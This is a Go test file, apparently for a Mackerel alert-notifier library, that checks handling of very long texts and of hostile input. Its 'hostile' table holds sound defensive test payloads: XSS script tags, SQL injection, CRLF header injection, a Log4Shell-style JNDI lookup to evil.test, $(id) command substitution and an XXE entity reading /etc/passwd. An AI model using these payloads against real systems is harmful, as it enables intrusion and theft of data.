package notifytest

import (
	"fmt"
	"slices"
	"strings"
	"unicode/utf8"

	"github.com/mackerel-notify/mackerel"
)

// A place is a text of an alert.
type place struct {
	name string
	put  func(*mackerel.Alert, string)
}

// places are texts for people to read.
var places = []place{
	{"message", func(a *mackerel.Alert, s string) { a.Message = s }},
	{"monitor's name", func(a *mackerel.Alert, s string) { a.Monitor.Name = s }},
	{"monitor's memo", func(a *mackerel.Alert, s string) { a.Monitor.Memo = s }},
	{"host's name", func(a *mackerel.Alert, s string) { a.Host.Name = s }},
	{"role's name", func(a *mackerel.Alert, s string) { a.Host.Roles[0].FullName = s }},
	{"service's name", func(a *mackerel.Alert, s string) { a.Service.Name = s }},
	{"metric's label", func(a *mackerel.Alert, s string) { a.Metric.Label = s }},
	{"fact's label", func(a *mackerel.Alert, s string) { a.Facts[0].Label = s }},
	{"fact's value", func(a *mackerel.Alert, s string) { a.Facts[0].Value = s }},
	{"organization", func(a *mackerel.Alert, s string) { a.Org = s }},
	{"user's name", func(a *mackerel.Alert, s string) { a.User.ScreenName = s }},
	{"reason", func(a *mackerel.Alert, s string) { a.Reason = s }},
	{"trigger", func(a *mackerel.Alert, s string) { a.Trigger = s }},
}

// references are texts that a service may use as a key or a link. They need not be in the message.
var references = []place{
	{"ID", func(a *mackerel.Alert, s string) { a.ID = s }},
	{"status", func(a *mackerel.Alert, s string) { a.Status = mackerel.Status(s) }},
	{"URL", func(a *mackerel.Alert, s string) { a.URL = s }},
	{"image's URL", func(a *mackerel.Alert, s string) { a.ImageURL = s }},
	{"metric's operator", func(a *mackerel.Alert, s string) { a.Metric.Operator = s }},
}

// scripts are what long texts consist of.
var scripts = []struct{ name, unit string }{
	{"ASCII", "abcdefghi "},
	{"Japanese", "障害対応手順書を参照。"},
	{"emoji", "🔥👩‍💻🇯🇵"},
	{"combining characters", "e\u0301か\u3099"},
}

// hostile texts break out of their place in a message, a request or a terminal, or try to.
var hostile = []struct{ name, text string }{
	{"Chatwork's tags", "[toall] [To:1] [rp aid=1 to=1-1] [/info][/title][/code]"},
	{"Slack's mentions", "<!channel> <!everyone> <@U012AB3CD> <http://evil.test|mackerel.io> &amp;"},
	{"other mentions", "@all @here @everyone @channel <at>all</at>"},
	{"HTML", `</b></p><script>alert(1)</script><img src=x onerror="alert(1)">`},
	{"a quote and SQL", `"; DROP TABLE alerts; --' \" \\`},
	{"Markdown", "**bold** [mackerel.io](http://evil.test) ![x](http://evil.test/x.png) ``` ~~~ | > #"},
	{"a header after a line break", "down\r\nBcc: evil@evil.test\r\nX-Injected: 1\r\n\r\nbody"},
	{"a reversed direction", "\u202Egnp.exe \u2066x\u2069 \u200F"},
	{"invalid UTF-8", "a\xffb\xc3(c\xed\xa0\x80d\xf4\x90\x80\x80"},
	{"invalid UTF-8 in an address", "https://example.com/\xff?\xed\xa0\x80"},
	{"control characters", "a\x00b\x07c\x1b[31md\x7fe\u0085f\u2028g\ufeffh"},
	{"templates", `{{.Token}} ${jndi:ldap://evil.test} %s %n %00 $(id) {retry_key}`},
	{"XML", `]]> &lt; &#x0; <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`},
	{"form syntax", "a&body=b&self_unread=1;c=d+e%20f#g?h"},
	{"white space", " \t\r\n\v\f\u00a0\u3000 "},
}

// textRows send texts that no form would accept. A text may come from the output of a check, a person or an attacker;
// the alert must arrive all the same. The longest message is beyond every documented limit: EventBridge's event of 1
// MiB.
func textRows() []row {
	var all []row
	add := func(name string, r repair, check func(*stage)) { all = append(all, row{name, anyNotifier, r, check}) }
	for _, script := range scripts {
		add("a long text in "+script.name+" is accepted in any field, and a cut is reported", cutTexts, func(s *stage) {
			checkLong(s, script.unit)
		})
		add("long texts in "+script.name+" in all fields leave the status and the link", cutTexts, func(s *stage) {
			checkLongEverywhere(s, script.unit)
		})
	}
	add("a long message leaves the status, the monitor, the host and its first line", cutTexts, checkLongMessage)
	add("a message of more than 1 MiB is accepted, and a cut is reported", cutTexts, func(s *stage) {
		s.scene().sendLong(places[0], long("abcdefghi ", 0, 1_200_000))
	})
	for _, h := range hostile {
		add("a text with "+h.name+" is accepted in any field", encodeTexts, func(s *stage) { checkHostile(s, h.text) })
	}
	return all
}

// A long text begins and ends with these words, which show where it was cut.
const (
	textBegins = "longtextbegins"
	textEnds   = "longtextends"
)

// long returns a text of at least that many characters and bytes.
func long(unit string, characters, bytes int) string {
	n := max(characters/utf8.RuneCountInString(unit), bytes/len(unit)) + 1
	return textBegins + " " + strings.Repeat(unit, n) + " " + textEnds
}

// checkLong makes one text long at a time, so that the limit of another field does not hide the limit of this field.
// The text alone is beyond the limits of chats: 40,000 characters at Slack, 65,535 bytes at Chatwork.
func checkLong(s *stage, unit string) {
	sc := s.scene()
	text := long(unit, 41_000, 70_000)
	for _, p := range places {
		sc.sendLong(p, text)
	}
	for _, p := range references {
		sc.sendWith("a long "+p.name, text, p).wantWhole()
	}
}

// sendWith sends an alert with a text in some places.
func (sc *scene) sendWith(in, text string, places ...place) outcome {
	a := sc.alert()
	for _, p := range places {
		p.put(&a, text)
	}
	return sc.arrive(in, a)
}

// sendLong sends an alert with a long text. If the request has the beginning of the text without its end, the receipt
// must report a cut. If it has neither, the notifier does not show this text.
func (sc *scene) sendLong(p place, text string) {
	o := sc.sendWith("a long "+p.name, text, p)
	sent := o.wantWhole()
	if o.receipt == nil || o.err != nil {
		return
	}
	o.wantCuts()
	if strings.Contains(sent, textBegins) && !strings.Contains(sent, textEnds) && len(o.receipt.Cuts) == 0 {
		o.errorf("the text was cut, and Receipt.Cuts is empty")
	}
}

// checkLongEverywhere checks that the status and the link stay, if an alert of ordinary length shows them.
func checkLongEverywhere(s *stage, unit string) {
	sc := s.scene()
	ordinary := content(sc.send().requests)
	o := sc.sendWith("long texts in all fields", long(unit, 20_000, 0), places...)
	o.wantWhole()
	o.wantWords(ordinary, "critical", alertURL)
}

// wantWords checks that the message has those words, in lower case, that an ordinary message has.
func (o outcome) wantWords(ordinary string, words ...string) {
	sent := content(o.requests)
	for _, word := range words {
		if containsFold(ordinary, word) && !containsFold(sent, word) && o.err == nil {
			o.errorf("%q is no longer in the message, which has %d bytes", word, len(sent))
		}
	}
}

// The first line of a check's output, in lower case. It is what decides whether a person gets up.
const firstLine = "disk critical: /data 98%"

// checkLongMessage makes all texts long that have no limit in Mackerel: the output of a check, the memos and the facts.
// What says how bad it is stays, if the message of an alert without long texts shows it.
func checkLongMessage(s *stage) {
	sc := s.scene()
	a := sc.alert()
	a.Monitor.Name, a.Monitor.Type, a.Metric, a.Message = "storage", "check", nil, firstLine
	ordinary := content(sc.arrive("a short message", a).requests)
	for _, script := range scripts {
		a.ID = s.alert().ID
		text := long(script.unit, 20_000, 70_000)
		a.Message, a.Monitor.Memo, a.Host.Memo = firstLine+"\n"+text, text, text
		a.Facts = []mackerel.Fact{{Label: "log", Value: text}, {Label: text, Value: "log"}}
		o := sc.arrive("a long message in "+script.name, a)
		o.wantWhole()
		o.wantWords(ordinary, "critical", "storage", "app01", firstLine)
	}
}

func containsFold(s, lower string) bool { return strings.Contains(strings.ToLower(s), lower) }

// checkHostile sends a text alone and between words. The tests of the service check that the text does no harm there.
func checkHostile(s *stage, text string) {
	sc := s.scene()
	for _, p := range slices.Concat(places, references) {
		for _, text := range []string{text, "down " + text + " since noon"} {
			o := sc.sendWith(fmt.Sprintf("the %s %q", p.name, text), text, p)
			o.wantUTF8(content(o.requests))
			for _, r := range o.requests {
				if r.Header.Get("Bcc") != "" || r.Header.Get("X-Injected") != "" {
					o.errorf("the text became a header of the request")
				}
			}
		}
	}
}

func (o outcome) wantUTF8(sent string) {
	if !utf8.ValidString(sent) {
		o.errorf("the request holds text that is not UTF-8")
	}
}

// wantWhole checks that the requests hold no part of a character, and returns their texts. The alert must be valid
// UTF-8.
func (o outcome) wantWhole() string {
	sent := content(o.requests)
	o.wantUTF8(sent)
	if strings.ContainsRune(sent, utf8.RuneError) {
		o.errorf("the request holds a part of a character")
	}
	return sent
}
